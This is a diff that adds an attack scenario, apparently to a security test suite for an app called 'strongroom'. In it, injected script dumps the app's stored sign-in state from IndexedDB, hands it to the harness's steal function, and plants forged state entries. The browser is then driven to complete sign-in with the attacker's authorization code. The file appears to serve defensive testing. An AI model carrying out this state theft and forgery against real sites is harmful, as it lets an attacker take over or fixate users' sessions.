@@ -1,0 +1,51 @@
+import { attack } from "../attack.js";
+
+export default attack({
+  name: "the attacker's account, with what rests of a sign-in under way, and with forged traces of others",
+  threat: "bending the sign-in",
+  target: "strongroom",
+  // Whatever may be a state, and traces for states of the attacker's own.
+  async payload(it) {
+    const done = <T>(request: IDBRequest<T>) =>
+      new Promise<T>((resolve, reject) => {
+        request.onsuccess = () => resolve(request.result);
+        request.onerror = () => reject(request.error);
+      });
+    const database = await done(indexedDB.open("strongroom"));
+    const traces = database.transaction("traces", "readwrite").objectStore("traces");
+    const [names, rows] = [await done(traces.getAllKeys()), await done(traces.getAll())];
+    const text = JSON.stringify([names, rows]);
+    it.steal(text);
+    (window as { found?: string[] }).found = text.match(/[\w-]{22,}/g) ?? [];
+    for (const [state, kind] of Object.entries({
+      "forged-1": "user",
+      "forged-2": "again",
+      "forged-3": "silent",
+    })) {
+      const digest = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(state));
+      const name = btoa(String.fromCharCode(...new Uint8Array(digest)))
+        .replace(/\+/g, "-")
+        .replace(/\//g, "_")
+        .replace(/=+$/, "");
+      const store = database.transaction("traces", "readwrite").objectStore("traces");
+      await done(store.put({ trace: `${kind} ${Date.now()} /`, expiresAt: Date.now() + 600_000 }, name));
+    }
+    database.close();
+  },
+  async play(stage) {
+    await stage.openSignedIn();
+    await stage.signOut();
+    const tab = await stage.browser.currentTab();
+    await stage.beginSignIn();
+    await stage.browser.newTab(`${stage.site.origin}/`);
+    await stage.waitForState("signed-out");
+    await stage.inject();
+    const found = await stage.browser.evaluate(() => (window as { found?: string[] }).found);
+    if (!found?.length) throw new Error("nothing rests of the sign-in: there was nothing to try");
+    await stage.closeThisTab(tab);
+    for (const state of [...found, "forged-1", "forged-2", "forged-3"]) {
+      await stage.browser.goto(await stage.codeOfTheAttacker({ state }));
+    }
+  },
+  gain: (stage) => stage.isTheAttackersSession(),
+});
